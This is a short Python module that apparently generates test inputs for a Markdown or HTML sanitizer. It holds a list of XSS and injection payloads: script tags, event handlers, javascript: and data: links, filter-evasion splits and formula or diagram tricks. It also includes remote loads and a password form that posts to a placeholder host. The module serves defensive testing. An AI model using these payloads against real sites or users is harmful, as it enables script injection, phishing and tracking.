"""What somebody would write who wants a page to run, load or cover something."""

from itertools import product

REMOTE = "http://remote.invalid"
HURT = "window.hurt=1"
MARKUP = [
    f"<script>{HURT}</script>",
    f"<img src=x onerror={HURT}>",
    f'<img src="{REMOTE}/a.png">',
    f"<svg onload={HURT}></svg>",
    f'<svg><image href="{REMOTE}/b.svg"/></svg>',
    f'<svg><use href="{REMOTE}/c.svg#x"/></svg>',
    f'<video src="{REMOTE}/d.mp4" autoplay></video>',
    f'<audio src="{REMOTE}/e.mp3" autoplay></audio>',
    f'<iframe src="{REMOTE}/f"></iframe>',
    f'<iframe srcdoc="<script>parent.{HURT}</script>"></iframe>',
    f'<object data="{REMOTE}/g"></object>',
    f'<embed src="{REMOTE}/h">',
    f'<link rel="stylesheet" href="{REMOTE}/i.css">',
    f"<style>@import url({REMOTE}/j.css);</style>",
    f'<style>body{{background:url("{REMOTE}/k.png")}}</style>',
    f'<div style="background:url({REMOTE}/l.png)">x</div>',
    '<div class="cover" style="position:fixed;inset:0;z-index:9999;background:red">x</div>',
    f'<form action="{REMOTE}/m"><input name=p type=password><button>Entrar</button></form>',
    f'<base href="{REMOTE}/">',
    f'<meta http-equiv="refresh" content="0;url={REMOTE}/n">',
    f"<details open ontoggle={HURT}>x</details>",
    f"<input autofocus onfocus={HURT}>",
    f"<marquee onstart={HURT}>x</marquee>",
    f'<a href="javascript:{HURT}">clic</a>',
    f'<math><mtext><img src="{REMOTE}/o.png"></mtext></math>',
    f'<picture><source srcset="{REMOTE}/p.png"><img></picture>',
    f"<template><script>{HURT}</script></template>",
    f"<noscript><img src={REMOTE}/q.png></noscript>",
    f"<x onclick={HURT} contenteditable autofocus onfocus={HURT}>",
    f"<body onload={HURT}>",
    f"<scr<script>ipt>{HURT}</scr</script>ipt>",
    f"&lt;img src=x onerror={HURT}&gt;",
]
MARKDOWN = [
    f"![x]({REMOTE}/r.png)",
    f"![x][1]\n\n[1]: {REMOTE}/s.png",
    f"[clic](javascript:{HURT})",
    f"[clic](<javascript:{HURT}>)",
    f"[clic](data:text/html,<script>{HURT}</script>)",
    f"```mermaid\ngraph LR; a[<img src=x onerror={HURT}>]\n```",
    f"$\\href{{javascript:{HURT}}}{{x}}$",
    f"$\\includegraphics{{{REMOTE}/t.png}}$",
    f"$$\\text{{<img src=x onerror={HURT}>}}$$",
    f"$\\htmlData{{x=1}}{{<img src={REMOTE}/u.png>}}$",
    f'[x](#lugar-" onmouseover="{HURT})',
    f"[1]<img src={REMOTE}/v.png>",
]
AROUND = [
    "{}",
    "> {}",
    "- {}",
    "| a | b |\n|---|---|\n| {} | x |",
    "**{}**",
    "# {}",
    "`{}`",
    "> ```\n> x\n> ```\n> {}",
    "> ```\n\n{}",
    "> ```\n{}",
    "$x {}$",
    r"\`{}\`",
]


def payloads() -> list[str]:
    """Each markup in each surrounding, and what Markdown and formulas alone can try."""
    return [around.format(one) for one, around in product(MARKUP, AROUND)] + MARKDOWN
